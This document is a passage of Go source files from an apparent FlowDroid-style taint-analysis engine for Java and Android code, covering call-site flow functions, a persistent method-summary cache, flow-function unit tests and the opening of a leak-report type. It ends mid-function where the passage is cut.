// reassignsLocal reports whether the method body assigns to l (beyond its
// parameter binding).
func reassignsLocal(m *ir.Method, l *ir.Local) bool {
	for _, s := range m.Body() {
		if a, ok := s.(*ir.AssignStmt); ok && a.LHS == ir.Value(l) {
			return true
		}
	}
	return false
}

// callToReturn is the forward flow across a call on the caller's side: it
// generates source taints, reports sinks, applies the library shortcut
// rules and the native-call default for bodyless targets, kills the
// redefined result local, and passes everything else through.
func (e *engine) callToReturn(n ir.Stmt, call *ir.InvokeExpr, d1, d2 *Abstraction) []*Abstraction {
	si := e.siteOf(n)
	result := si.result

	if d2 == e.zero {
		if src, ok := e.mgr.SourceAtCall(n); ok && result != nil {
			rec := e.sourceRecord(n, src)
			return []*Abstraction{e.zero, e.ai.get(e.in.local(result), true, nil, rec, nil, n)}
		}
		return e.zero.self
	}

	// Activation at call sites: the activation statement's call tree may
	// execute within this call.
	d2 = e.maybeActivateAtCall(n, d2)

	// Sink detection: only active taints leak.
	if d2.Active {
		if snk, args, ok := e.mgr.SinkAtCall(n); ok {
			for _, idx := range args {
				if idx < len(call.Args) {
					if l, ok := call.Args[idx].(*ir.Local); ok && d2.AP.Base == l {
						e.recordLeak(methodCtx{n.Method(), d1}, n, snk, d2)
					}
				}
			}
		}
	}

	// The call strongly updates its result local.
	if result != nil && d2.AP.Base == result && !d2.AP.IsStatic() {
		return nil
	}

	// Library handling for targets without analyzable bodies.
	if !si.stub {
		return d2.self
	}
	var lib []*Abstraction
	if si.carrier {
		lib = e.carrierFlow(n, si, d1, d2)
	} else {
		lib = e.libraryFlow(n, si, d1, d2)
	}
	if len(lib) == 0 {
		return d2.self
	}
	outs := make([]*Abstraction, 0, len(lib)+1)
	outs = append(outs, d2)
	return append(outs, lib...)
}

// hasStubTarget reports whether the call may dispatch to a method without
// a body (or resolves to nothing at all), requiring wrapper/native
// handling. Memoized per call site via siteOf.
func (e *engine) hasStubTarget(n ir.Stmt) bool {
	all := e.icfg.AllCalleesOf(n)
	if len(all) == 0 {
		return true
	}
	for _, t := range all {
		if t.Abstract() {
			return true
		}
	}
	return false
}

// libraryFlow applies the taint-wrapper shortcut rules, or the
// native-call default when no rule matches: if any argument is tainted,
// the return value and the arguments become tainted. The resolved rule
// slice comes from the per-site cache; string-carrier sites take the
// compiled carrierFlow path instead and never reach here.
func (e *engine) libraryFlow(n ir.Stmt, si *callSite, d1, d2 *Abstraction) []*Abstraction {
	call := si.call
	ap := d2.AP

	var outs []*Abstraction
	gen := func(slot int) {
		dst := e.slotPath(si, slot)
		if dst == nil {
			return
		}
		na := e.ai.derive(d2, dst, n)
		outs = append(outs, na)
		// Wrapper-tainted objects may have aliases: a collection stored
		// in a field elsewhere, for instance.
		if slot != SlotReturn {
			e.spawnAliasSearch(n, d1, na)
		}
	}

	if len(si.rules) > 0 {
		for _, r := range si.rules {
			if slotTainted(call, ap, r.From) {
				for _, to := range r.To {
					gen(to)
				}
			}
		}
		return outs
	}

	// Native default: any tainted argument taints the arguments and the
	// return value (Section 5, "Native Calls").
	anyArgTainted := false
	for i := range call.Args {
		if slotTainted(call, ap, i) {
			anyArgTainted = true
			break
		}
	}
	if anyArgTainted {
		gen(SlotReturn)
		for i, arg := range call.Args {
			if l, ok := arg.(*ir.Local); ok && l.Type.IsRef() && ap.Base != l {
				gen(i)
			}
		}
	}
	return outs
}
