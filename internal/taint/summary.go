package taint

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"flowdroid/internal/ir"
	"flowdroid/internal/sourcesink"
)

// This file is the engine side of the persistent summary store
// (internal/summarystore): serializing a method context's fixed point
// into a symbolic, program-independent record, and replaying such a
// record on a warm run instead of re-exploring the call subtree.
//
// The unit of caching is a *method context* (callee, entry fact), the
// same key the solver's endSum map uses. A context is cacheable when
// its entry fact is the zero fact or an active taint (inactive entry
// facts carry an activation statement from the caller's frame, which a
// symbolic record cannot anchor). A stored record is valid whenever the
// method's transitive content hash matches — the hash covers the whole
// call subtree (see summarystore.HashMethods) — and it captures the
// context's complete boundary effects:
//
//   - the end summary: every fact reaching an exit of the method, and
//   - the transitive leaks: every leak recorded anywhere in the
//     context's subtree, so skipping the subtree loses no reports.
//
// Records are source-agnostic: the transfer functions never inspect a
// fact's provenance, so a record computed for entry fact (ap, src₁)
// replays verbatim for (ap, src₂) with the entry source substituted.
// Facts whose taint was born *inside* the subtree carry their concrete
// source (statement + rule) instead.

// LookupStatus classifies a summary-store lookup. Everything except a
// hit behaves as "not available, explore live" — the distinctions exist
// only for the summary.store.{hit,miss,invalidated,corrupt} counters.
type LookupStatus int

const (
	// LookupHit means a valid record was found.
	LookupHit LookupStatus = iota
	// LookupMiss means no record exists for this method and shape.
	LookupMiss
	// LookupInvalidated means a record exists but its method hash is
	// stale — the method or something in its call subtree changed.
	LookupInvalidated
	// LookupCorrupt means the entry was unreadable: truncated, bit-
	// flipped, or written under a different format version. Treated
	// exactly like a miss.
	LookupCorrupt
)

// Summaries is the session interface the engine talks to. A session is
// scoped to one (app, configuration) namespace; the engine consults it
// once per method context and hands back complete records only at the
// end of a Completed run. Implementations must be safe for concurrent
// use. internal/summarystore provides the disk-backed implementation.
type Summaries interface {
	// Lookup returns the stored record for the method under the given
	// entry-fact shape, if a valid one exists.
	Lookup(m *ir.Method, shape string) (*MethodSummary, LookupStatus)
	// Persist records the fixed point for (m, shape). Implementations
	// buffer; the engine only persists from Completed runs.
	Persist(m *ir.Method, shape string, rec *MethodSummary)
}

// FieldSig names a resolved field: the declaring class and field name.
type FieldSig struct {
	Class string `json:"class"`
	Name  string `json:"name"`
}

// SymbolicFact is a taint abstraction with every pointer replaced by a
// stable name: locals by name (resolved in a home method), fields and
// statements by signature and index. Entry==true marks provenance as
// "the context's entry fact's source", substituted at replay time.
type SymbolicFact struct {
	Zero        bool               `json:"zero,omitempty"`
	Base        string             `json:"base,omitempty"`
	StaticClass string             `json:"staticClass,omitempty"`
	StaticField string             `json:"staticField,omitempty"`
	Fields      []FieldSig         `json:"fields,omitempty"`
	Active      bool               `json:"active,omitempty"`
	ActMethod   string             `json:"actMethod,omitempty"`
	ActIndex    int                `json:"actIndex,omitempty"`
	Entry       bool               `json:"entry,omitempty"`
	SrcMethod   string             `json:"srcMethod,omitempty"`
	SrcIndex    int                `json:"srcIndex,omitempty"`
	SrcRule     *sourcesink.Source `json:"srcRule,omitempty"`
}

// SummaryExit is one end-summary entry: a fact (rooted in the
// summarized method's frame or a static field) at an exit statement.
type SummaryExit struct {
	ExitIndex int          `json:"exit"`
	Fact      SymbolicFact `json:"fact"`
}

// SummaryLeak is one leak found inside the context's subtree. The fact
// is rooted in the sink statement's method.
type SummaryLeak struct {
	SinkMethod string          `json:"sinkMethod"`
	SinkIndex  int             `json:"sinkIndex"`
	Sink       sourcesink.Sink `json:"sink"`
	Fact       SymbolicFact    `json:"fact"`
}

// MethodSummary is the stored fixed point of one method context.
type MethodSummary struct {
	Exits []SummaryExit `json:"exits,omitempty"`
	Leaks []SummaryLeak `json:"leaks,omitempty"`
}

// StoreStats reports the summary store's effect on a run. The headline
// reuse rate is methods-level: MethodsReused counts call-graph-
// reachable analyzable methods the solver never had to walk because
// every path to them was cut off by an installed summary.
type StoreStats struct {
	// Hits counts contexts installed from the store; Misses, Invalidated
	// and Corrupt classify the lookups that found nothing usable. All
	// four are per-context (memoized), not per-evaluation.
	Hits        int
	Misses      int
	Invalidated int
	Corrupt     int
	// Uncacheable counts contexts whose entry fact cannot be summarized
	// (inactive aliases anchored to a caller-frame activation statement).
	Uncacheable int
	// MethodsExplored is the number of distinct methods the solver
	// actually walked; MethodsReused the number it skipped thanks to
	// installed summaries. Persisted counts records handed to the store.
	MethodsExplored int
	MethodsReused   int
	Persisted       int
}

// ReuseRate is MethodsReused over the methods that would have been
// walked on a cold run.
func (s StoreStats) ReuseRate() float64 {
	t := s.MethodsReused + s.MethodsExplored
	if t == 0 {
		return 0
	}
	return float64(s.MethodsReused) / float64(t)
}

// sumDec is the memoized per-context store decision.
type sumDec uint8

const (
	sumDecMiss        sumDec = iota + 1 // looked up, nothing usable: explore live
	sumDecInstalled                     // stored record installed: skip the subtree
	sumDecUncacheable                   // entry fact not summarizable
)

// cacheable reports whether the context's entry fact can be keyed
// symbolically: the zero fact, or an active taint (Active implies
// Activation==nil — activation statements are consumed on activation).
func (e *engine) cacheable(d3 *Abstraction) bool {
	return d3 == e.zero || (d3.Active && d3.Activation == nil)
}

// shapeOf renders the entry fact's shape — the store key within a
// method. Provenance is deliberately excluded (records are isomorphic
// in the entry source); activation state needs no encoding because
// every cacheable non-zero entry fact is active.
func (e *engine) shapeOf(d *Abstraction) string {
	if d == e.zero {
		return "0"
	}
	ap := d.AP
	var sb strings.Builder
	if ap.Base != nil {
		sb.WriteString("L:")
		sb.WriteString(ap.Base.Name)
	} else {
		sb.WriteString("S:")
		sb.WriteString(ap.StaticRoot.Class.Name)
		sb.WriteString("#")
		sb.WriteString(ap.StaticRoot.Name)
	}
	for _, f := range ap.Fields {
		sb.WriteString("|")
		sb.WriteString(f.Class.Name)
		sb.WriteString("#")
		sb.WriteString(f.Name)
	}
	return sb.String()
}

// summaryFor consults the summary session for (callee, d3), once per
// context (the decision is memoized, so the hit/miss counters are
// per-context too). On a hit the stored exits are appended to endSum —
// under callMu, mirroring fwExit, so registerIncoming's snapshot
// discipline picks them up for every caller past and future — and the
// stored transitive leaks are replayed. It returns true when the caller
// should skip seeding the callee's subtree.
func (e *engine) summaryFor(callee *ir.Method, d3 *Abstraction) bool {
	if e.conf.Summaries == nil {
		return false
	}
	key := methodCtx{callee, d3}
	e.sumMu.Lock()
	defer e.sumMu.Unlock()
	if dec, ok := e.sumDecision[key]; ok {
		return dec == sumDecInstalled
	}
	dec := e.installSummary(key)
	e.sumDecision[key] = dec
	switch dec {
	case sumDecInstalled:
		e.stats.storeHits.Add(1)
	case sumDecUncacheable:
		e.stats.storeUncacheable.Add(1)
	}
	return dec == sumDecInstalled
}

// installSummary looks up and, on a hit, installs the stored record for
// one context. Called with sumMu held; the first worker to reach a
// context decides for everyone.
func (e *engine) installSummary(key methodCtx) sumDec {
	d3 := key.d1
	if !e.cacheable(d3) {
		return sumDecUncacheable
	}
	rec, st := e.conf.Summaries.Lookup(key.m, e.shapeOf(d3))
	switch st {
	case LookupHit:
	case LookupInvalidated:
		e.stats.storeInvalidated.Add(1)
		return sumDecMiss
	case LookupCorrupt:
		e.stats.storeCorrupt.Add(1)
		return sumDecMiss
	default:
		e.stats.storeMisses.Add(1)
		return sumDecMiss
	}

	// Phase 1: resolve the whole record purely. Any dangling reference
	// (a name-hash collision slipping past, or a record from a buggy
	// writer) demotes the hit to a miss with no side effects.
	type rleak struct {
		sink ir.Stmt
		rule sourcesink.Sink
		fact *Abstraction
	}
	exits := make([]exitRec, 0, len(rec.Exits))
	for _, se := range rec.Exits {
		body := key.m.Body()
		if se.ExitIndex < 0 || se.ExitIndex >= len(body) {
			e.stats.storeMisses.Add(1)
			return sumDecMiss
		}
		fact, ok := e.resolveFact(se.Fact, key.m, d3)
		if !ok {
			e.stats.storeMisses.Add(1)
			return sumDecMiss
		}
		exits = append(exits, exitRec{body[se.ExitIndex], fact})
	}
	leaks := make([]rleak, 0, len(rec.Leaks))
	for _, sl := range rec.Leaks {
		sm := e.methodBySig(sl.SinkMethod)
		if sm == nil || sl.SinkIndex < 0 || sl.SinkIndex >= len(sm.Body()) {
			e.stats.storeMisses.Add(1)
			return sumDecMiss
		}
		fact, ok := e.resolveFact(sl.Fact, sm, d3)
		if !ok || fact == e.zero {
			e.stats.storeMisses.Add(1)
			return sumDecMiss
		}
		leaks = append(leaks, rleak{sm.Body()[sl.SinkIndex], sl.Sink, fact})
	}

	// Phase 2: install. Append the exits exactly like fwExit would —
	// atomic with the caller snapshot — then apply them to the callers
	// already registered (callers arriving later replay them through
	// registerIncoming's endSum snapshot).
	e.callMu.Lock()
	e.endSum[key] = append(e.endSum[key], exits...)
	callers := make([]callerCtx, 0, len(e.incoming[key]))
	for cc := range e.incoming[key] {
		callers = append(callers, cc)
	}
	e.callMu.Unlock()
	e.stats.summaries.Add(int64(len(exits)))
	for _, ep := range exits {
		for _, cc := range callers {
			e.applyReturn(cc, key.m, ep)
		}
	}
	for _, lk := range leaks {
		e.recordLeak(key, lk.sink, lk.rule, lk.fact)
	}
	return sumDecInstalled
}

// resolveFact reconstructs a live abstraction from its symbolic form.
// Locals resolve in the home method's frame (the summarized method for
// exits, the sink's method for leaks); fields resolve to the declaring
// class's declared field; statements by index. All interning goes
// through the run's interners, so replayed facts are pointer-identical
// to the facts live exploration would have derived — leak deduplication
// and jump-table dedup work unchanged.
func (e *engine) resolveFact(sf SymbolicFact, home *ir.Method, entry *Abstraction) (*Abstraction, bool) {
	if sf.Zero {
		return e.zero, true
	}
	fields := make([]*ir.Field, 0, len(sf.Fields))
	for _, fs := range sf.Fields {
		f := e.fieldBySig(fs)
		if f == nil {
			return nil, false
		}
		fields = append(fields, f)
	}
	var ap *AccessPath
	switch {
	case sf.Base != "":
		l := home.LookupLocal(sf.Base)
		if l == nil {
			return nil, false
		}
		ap = e.in.local(l, fields...)
	case sf.StaticClass != "":
		root := e.fieldBySig(FieldSig{sf.StaticClass, sf.StaticField})
		if root == nil {
			return nil, false
		}
		ap = e.in.static(root, fields...)
	default:
		return nil, false
	}
	var act ir.Stmt
	if !sf.Active && sf.ActMethod != "" {
		am := e.methodBySig(sf.ActMethod)
		if am == nil || sf.ActIndex < 0 || sf.ActIndex >= len(am.Body()) {
			return nil, false
		}
		act = am.Body()[sf.ActIndex]
	}
	var src *SourceRecord
	switch {
	case sf.Entry:
		if entry == nil || entry.Source == nil {
			return nil, false
		}
		src = entry.Source
	case sf.SrcRule != nil:
		sm := e.methodBySig(sf.SrcMethod)
		if sm == nil || sf.SrcIndex < 0 || sf.SrcIndex >= len(sm.Body()) {
			return nil, false
		}
		src = e.sourceRecord(sm.Body()[sf.SrcIndex], *sf.SrcRule)
	default:
		return nil, false
	}
	return e.ai.get(ap, sf.Active, act, src, nil, nil), true
}

// symbolize is resolveFact's inverse: it renders a live fact relative
// to the context's entry source. It fails (ok=false) only for facts a
// record cannot carry — which would indicate an engine invariant
// violation, so the caller skips persisting that context.
func (e *engine) symbolize(d *Abstraction, entrySrc *SourceRecord) (SymbolicFact, bool) {
	if d == e.zero {
		return SymbolicFact{Zero: true}, true
	}
	sf := SymbolicFact{Active: d.Active}
	ap := d.AP
	if ap == nil {
		return sf, false
	}
	if ap.Base != nil {
		sf.Base = ap.Base.Name
	} else {
		sf.StaticClass = ap.StaticRoot.Class.Name
		sf.StaticField = ap.StaticRoot.Name
	}
	for _, f := range ap.Fields {
		sf.Fields = append(sf.Fields, FieldSig{f.Class.Name, f.Name})
	}
	if !d.Active {
		if d.Activation == nil {
			return sf, false
		}
		sf.ActMethod = d.Activation.Method().String()
		sf.ActIndex = d.Activation.Index()
	}
	switch {
	case d.Source == nil:
		return sf, false
	case d.Source == entrySrc:
		sf.Entry = true
	default:
		if d.Source.Stmt == nil {
			return sf, false
		}
		rule := d.Source.Source
		sf.SrcMethod = d.Source.Stmt.Method().String()
		sf.SrcIndex = d.Source.Stmt.Index()
		sf.SrcRule = &rule
	}
	return sf, true
}

// methodBySig resolves "Class.name/nargs" against the program.
func (e *engine) methodBySig(sig string) *ir.Method {
	slash := strings.LastIndexByte(sig, '/')
	if slash < 0 {
		return nil
	}
	nargs, err := strconv.Atoi(sig[slash+1:])
	if err != nil {
		return nil
	}
	dot := strings.LastIndexByte(sig[:slash], '.')
	if dot < 0 {
		return nil
	}
	cls := e.icfg.Prog.Class(sig[:dot])
	if cls == nil {
		return nil
	}
	return cls.Method(sig[dot+1:slash], nargs)
}

// fieldBySig resolves a declared field, special-casing the engine's
// synthetic array-index pseudo-fields (interned per engine, not part of
// the program hierarchy).
func (e *engine) fieldBySig(fs FieldSig) *ir.Field {
	if fs.Class == "$array" {
		idx, err := strconv.ParseInt(strings.TrimPrefix(fs.Name, "idx"), 10, 64)
		if err != nil {
			return nil
		}
		return e.indexField(idx)
	}
	cls := e.icfg.Prog.Class(fs.Class)
	if cls == nil {
		return nil
	}
	return cls.Field(fs.Name)
}

// finalizeSummaries runs after the drain: it fills the store stats and,
// on a Completed run with a session attached, serializes every
// cacheable explored context into the session. Partial fixed points
// from truncated runs are never persisted. The workers are gone by now,
// so the engine's maps are read without locks.
func (e *engine) finalizeSummaries(completed bool) StoreStats {
	st := StoreStats{
		Hits:        int(e.stats.storeHits.Load()),
		Misses:      int(e.stats.storeMisses.Load()),
		Invalidated: int(e.stats.storeInvalidated.Load()),
		Corrupt:     int(e.stats.storeCorrupt.Load()),
		Uncacheable: int(e.stats.storeUncacheable.Load()),
	}

	// Methods actually walked: contexts with end summaries that were not
	// installed from the store. The entry methods (the synthetic
	// lifecycle mains) are excluded — they have no callers, so their
	// summaries are structurally unreusable and would put a fixed floor
	// under MethodsExplored on every warm run.
	explored := make(map[*ir.Method]bool)
	for key := range e.endSum {
		if e.sumDecision[key] != sumDecInstalled && !e.entrySet[key.m] {
			explored[key.m] = true
		}
	}
	st.MethodsExplored = len(explored)
	if st.Hits > 0 {
		// Reuse is what a cold run would have walked minus what this run
		// walked. Without a query cone, the zero fact explores every
		// reachable analyzable method, so the reachable set is the cold
		// baseline; with a cone, methods outside it are excluded (the
		// baseline a cold query run explores), and the entry methods are
		// excluded to match the explored count above.
		total := 0
		for _, m := range e.icfg.Graph.Reachable() {
			if m.Abstract() || m.EntryStmt() == nil || e.entrySet[m] {
				continue
			}
			if e.conf.Cone != nil && !e.conf.Cone.Relevant(m) {
				continue
			}
			total++
		}
		if st.MethodsReused = total - st.MethodsExplored; st.MethodsReused < 0 {
			st.MethodsReused = 0
		}
	}

	if completed && e.conf.Summaries != nil {
		st.Persisted = e.persistSummaries()
	}
	return st
}

// persistSummaries serializes every cacheable, live-explored context
// into the session. Transitive leaks are aggregated over the context
// graph (edges caller-context → callee-context from the incoming map),
// condensed over SCCs so recursion converges.
func (e *engine) persistSummaries() int {
	// Candidate contexts: callee contexts (they appear as incoming
	// keys), cacheable, not installed from the store. Entry methods'
	// contexts have no incoming edges and are never persisted — they are
	// re-explored every run (the synthetic main is cheap).
	type node = methodCtx
	nodes := make(map[node]bool)
	succs := make(map[node][]node)
	addNode := func(c node) {
		if !nodes[c] {
			nodes[c] = true
		}
	}
	for key := range e.endSum {
		addNode(key)
	}
	for key := range e.leakAttr {
		addNode(key)
	}
	for callee, ccs := range e.incoming {
		addNode(callee)
		for cc := range ccs {
			parent := node{cc.site.Method(), cc.d1}
			addNode(parent)
			succs[parent] = append(succs[parent], callee)
		}
	}
	order := make([]node, 0, len(nodes))
	for c := range nodes {
		order = append(order, c)
	}
	sccs, sccOf := condenseCtx(order, succs)

	// Aggregate leaks bottom-up over the condensation (reverse
	// topological order: successors first).
	agg := make([]map[leakKey]*Leak, len(sccs))
	for i, scc := range sccs {
		set := make(map[leakKey]*Leak)
		for _, c := range scc {
			for k, l := range e.leakAttr[c] {
				set[k] = l
			}
			for _, s := range succs[c] {
				if j := sccOf[s]; j != i {
					for k, l := range agg[j] {
						set[k] = l
					}
				}
			}
		}
		agg[i] = set
	}

	persisted := 0
	for callee := range e.incoming {
		if !e.cacheable(callee.d1) || e.sumDecision[callee] == sumDecInstalled {
			continue
		}
		if callee.d1 != e.zero && callee.d1.Source == nil {
			continue
		}
		rec, ok := e.serializeCtx(callee, agg[sccOf[callee]])
		if !ok {
			continue
		}
		e.conf.Summaries.Persist(callee.m, e.shapeOf(callee.d1), rec)
		persisted++
	}
	return persisted
}

// serializeCtx renders one context's record: its end summary (zero exit
// facts are skipped — returnFlow drops them) and the aggregated
// transitive leaks, both deduplicated and canonically ordered so the
// bytes written do not depend on discovery order.
func (e *engine) serializeCtx(key methodCtx, leaks map[leakKey]*Leak) (*MethodSummary, bool) {
	var entrySrc *SourceRecord
	if key.d1 != e.zero {
		entrySrc = key.d1.Source
	}
	rec := &MethodSummary{}
	type exitKey struct {
		exit ir.Stmt
		d2   *Abstraction
	}
	seenExit := make(map[exitKey]bool)
	for _, ep := range e.endSum[key] {
		if ep.d2 == e.zero {
			continue
		}
		ek := exitKey{ep.exit, ep.d2}
		if seenExit[ek] {
			continue
		}
		seenExit[ek] = true
		sf, ok := e.symbolize(ep.d2, entrySrc)
		if !ok {
			return nil, false
		}
		rec.Exits = append(rec.Exits, SummaryExit{ExitIndex: ep.exit.Index(), Fact: sf})
	}
	for _, l := range leaks {
		sf, ok := e.symbolize(l.Abstraction, entrySrc)
		if !ok {
			return nil, false
		}
		rec.Leaks = append(rec.Leaks, SummaryLeak{
			SinkMethod: l.Sink.Method().String(),
			SinkIndex:  l.Sink.Index(),
			Sink:       l.SinkSpec,
			Fact:       sf,
		})
	}
	sort.Slice(rec.Exits, func(i, j int) bool {
		a, b := rec.Exits[i], rec.Exits[j]
		if a.ExitIndex != b.ExitIndex {
			return a.ExitIndex < b.ExitIndex
		}
		return factOrd(a.Fact) < factOrd(b.Fact)
	})
	sort.Slice(rec.Leaks, func(i, j int) bool {
		a, b := rec.Leaks[i], rec.Leaks[j]
		if a.SinkMethod != b.SinkMethod {
			return a.SinkMethod < b.SinkMethod
		}
		if a.SinkIndex != b.SinkIndex {
			return a.SinkIndex < b.SinkIndex
		}
		if a.Sink.Label != b.Sink.Label {
			return a.Sink.Label < b.Sink.Label
		}
		return factOrd(a.Fact) < factOrd(b.Fact)
	})
	return rec, true
}

func factOrd(sf SymbolicFact) string { return fmt.Sprintf("%+v", sf) }

// condenseCtx is Tarjan's SCC algorithm over the context graph,
// iterative, returning components in reverse topological order.
func condenseCtx(nodes []methodCtx, succs map[methodCtx][]methodCtx) ([][]methodCtx, map[methodCtx]int) {
	index := make(map[methodCtx]int, len(nodes))
	low := make(map[methodCtx]int, len(nodes))
	onStack := make(map[methodCtx]bool, len(nodes))
	var stack []methodCtx
	var sccs [][]methodCtx
	next := 0

	type frame struct {
		c  methodCtx
		si int
	}
	for _, root := range nodes {
		if _, ok := index[root]; ok {
			continue
		}
		frames := []frame{{c: root}}
		index[root] = next
		low[root] = next
		next++
		stack = append(stack, root)
		onStack[root] = true
		for len(frames) > 0 {
			f := &frames[len(frames)-1]
			if f.si < len(succs[f.c]) {
				s := succs[f.c][f.si]
				f.si++
				if _, ok := index[s]; !ok {
					index[s] = next
					low[s] = next
					next++
					stack = append(stack, s)
					onStack[s] = true
					frames = append(frames, frame{c: s})
				} else if onStack[s] && index[s] < low[f.c] {
					low[f.c] = index[s]
				}
				continue
			}
			if low[f.c] == index[f.c] {
				var scc []methodCtx
				for {
					top := stack[len(stack)-1]
					stack = stack[:len(stack)-1]
					onStack[top] = false
					scc = append(scc, top)
					if top == f.c {
						break
					}
				}
				sccs = append(sccs, scc)
			}
			c := f.c
			frames = frames[:len(frames)-1]
			if len(frames) > 0 {
				p := frames[len(frames)-1].c
				if low[c] < low[p] {
					low[p] = low[c]
				}
			}
		}
	}
	sccOf := make(map[methodCtx]int, len(index))
	for i, scc := range sccs {
		for _, c := range scc {
			sccOf[c] = i
		}
	}
	return sccs, sccOf
}
