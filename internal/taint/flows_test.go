package taint

import (
	"context"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
	"flowdroid/internal/sourcesink"
)

// newTestEngine builds an engine over a parsed program for direct flow-
// function unit tests.
func newTestEngine(t *testing.T, src string) (*engine, *ir.Program) {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, "flow.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	main := prog.Class("F").Method("m", 0)
	graph := pta.Build(context.Background(), prog, main).Graph
	icfg := cfg.NewICFG(prog, graph)
	mgr, err := sourcesink.Parse(prog, "")
	if err != nil {
		t.Fatal(err)
	}
	return newEngine(icfg, mgr, DefaultConfig()), prog
}

const flowSrc = `
class D {
  field f: java.lang.String
  field g: D
  method init(): void {
    return
  }
}
class F {
  static field s: java.lang.String
  static method m(): void {
    a = "x"
    b = a
    d = new D()
    d.f = a
    c = d.f
    F.s = a
    e = F.s
    arr = newarray java.lang.String
    arr[0] = a
    q = arr[1]
    w = a + b
    return
  }
}
`

// stmtAt returns the i-th statement of F.m.
func stmtAt(prog *ir.Program, i int) ir.Stmt {
	return prog.Class("F").Method("m", 0).Body()[i]
}

func apStrings(outs []*Abstraction) map[string]bool {
	m := make(map[string]bool, len(outs))
	for _, o := range outs {
		m[o.AP.String()] = true
	}
	return m
}

func TestNormalFlowTable(t *testing.T) {
	e, prog := newTestEngine(t, flowSrc)
	m := prog.Class("F").Method("m", 0)
	local := func(name string) *ir.Local { return m.LookupLocal(name) }
	src := &SourceRecord{}
	fact := func(ap *AccessPath) *Abstraction { return e.ai.get(ap, true, nil, src, nil, nil) }

	// Body indices: 0 a="x"  1 b=a  2 d=new D  3 d.init()  4 d.f=a
	// 5 c=d.f  6 F.s=a  7 e=F.s  8 arr=newarray  9 arr[0]=a  10 q=arr[1]
	// 11 w=a+b  12 return
	dField := prog.Class("D").Field("f")
	sField := prog.Class("F").Field("s")

	cases := []struct {
		name     string
		stmt     int
		in       *Abstraction
		wantOut  []string
		wantTrig int
	}{
		{"copy propagates", 1, fact(e.in.local(local("a"))), []string{"a", "b"}, 0},
		{"copy kills lhs", 1, fact(e.in.local(local("b"))), nil, 0},
		{"alloc kills lhs", 2, fact(e.in.local(local("d"))), nil, 0},
		{"field store appends and triggers", 4, fact(e.in.local(local("a"))),
			[]string{"a", "d.f"}, 1},
		{"field load strips", 5, fact(e.in.local(local("d"), dField)),
			[]string{"d.f", "c"}, 0},
		{"whole object covers load", 5, fact(e.in.local(local("d"))),
			[]string{"d", "c"}, 0},
		{"static store", 6, fact(e.in.local(local("a"))),
			[]string{"a", "F.s"}, 0},
		{"static load", 7, fact(e.in.static(sField)),
			[]string{"F.s", "e"}, 0},
		{"array store taints whole array", 9, fact(e.in.local(local("a"))),
			[]string{"a", "arr"}, 1},
		{"array load from tainted array", 10, fact(e.in.local(local("arr"))),
			[]string{"arr", "q"}, 0},
		{"binop left operand", 11, fact(e.in.local(local("a"))),
			[]string{"a", "w"}, 0},
		{"binop right operand", 11, fact(e.in.local(local("b"))),
			[]string{"b", "w"}, 0},
		{"unrelated passes", 4, fact(e.in.local(local("b"))), []string{"b"}, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			outs, trig := e.normalFlow(stmtAt(prog, tc.stmt), tc.in)
			got := apStrings(outs)
			if len(got) != len(tc.wantOut) {
				t.Fatalf("outs = %v, want %v", got, tc.wantOut)
			}
			for _, w := range tc.wantOut {
				if !got[w] {
					t.Errorf("missing %q in %v", w, got)
				}
			}
			if len(trig) != tc.wantTrig {
				t.Errorf("triggers = %d, want %d", len(trig), tc.wantTrig)
			}
		})
	}
}

func TestNormalFlowZero(t *testing.T) {
	e, prog := newTestEngine(t, flowSrc)
	outs, trig := e.normalFlow(stmtAt(prog, 1), e.zero)
	if len(outs) != 1 || outs[0] != e.zero || len(trig) != 0 {
		t.Errorf("zero flow = %v, %v", outs, trig)
	}
}

func TestBwAssignTable(t *testing.T) {
	e, prog := newTestEngine(t, flowSrc)
	m := prog.Class("F").Method("m", 0)
	local := func(name string) *ir.Local { return m.LookupLocal(name) }
	src := &SourceRecord{}
	dField := prog.Class("D").Field("f")
	fact := func(ap *AccessPath) *Abstraction { return e.ai.get(ap, false, stmtAt(prog, 4), src, nil, nil) }

	// b = a (index 1): alias of b.F before is a.F.
	outs := e.bwAssign(stmtAt(prog, 1).(*ir.AssignStmt), fact(e.in.local(local("b"))))
	if got := apStrings(outs); len(got) != 1 || !got["a"] {
		t.Errorf("bw copy rebase = %v", got)
	}
	// d = new D (index 2): alias chain ends.
	outs = e.bwAssign(stmtAt(prog, 2).(*ir.AssignStmt), fact(e.in.local(local("d"))))
	if len(outs) != 0 {
		t.Errorf("bw alloc should kill, got %v", apStrings(outs))
	}
	// d.f = a (index 4): d.f rebases to a, keeping d.f (no strong update).
	outs = e.bwAssign(stmtAt(prog, 4).(*ir.AssignStmt), fact(e.in.local(local("d"), dField)))
	if got := apStrings(outs); len(got) != 2 || !got["a"] || !got["d.f"] {
		t.Errorf("bw heap store = %v", got)
	}
	// Unrelated fact passes.
	outs = e.bwAssign(stmtAt(prog, 1).(*ir.AssignStmt), fact(e.in.local(local("c"))))
	if got := apStrings(outs); len(got) != 1 || !got["c"] {
		t.Errorf("bw unrelated = %v", got)
	}
}
