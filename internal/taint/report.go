package taint

import "fmt"

// LeakReport is a serialization-friendly view of one leak, used by the
// CLI's JSON output and any downstream tooling.
type LeakReport struct {
	// SourceLabel/SinkLabel are the rule labels ("device-id", "sms").
	SourceLabel string `json:"sourceLabel"`
	SinkLabel   string `json:"sinkLabel"`
	// Source/Sink render the statements with their containing methods.
	Source       string `json:"source"`
	SourceMethod string `json:"sourceMethod"`
	Sink         string `json:"sink"`
	SinkMethod   string `json:"sinkMethod"`
	// AccessPath is the tainted access path observed at the sink.
	AccessPath string `json:"accessPath"`
	// Path is the reconstructed statement trace, source first.
	Path []string `json:"path"`
}

// Report converts the distinct leaks into serializable records.
func (r *Results) Report() []LeakReport {
	leaks := r.DistinctSourceSinkPairs()
	out := make([]LeakReport, 0, len(leaks))
	for _, l := range leaks {
		rep := LeakReport{
			SinkLabel:  l.SinkSpec.Label,
			Sink:       l.Sink.String(),
			SinkMethod: l.Sink.Method().String(),
		}
		if l.Abstraction != nil && l.Abstraction.AP != nil {
			rep.AccessPath = l.Abstraction.AP.String()
		}
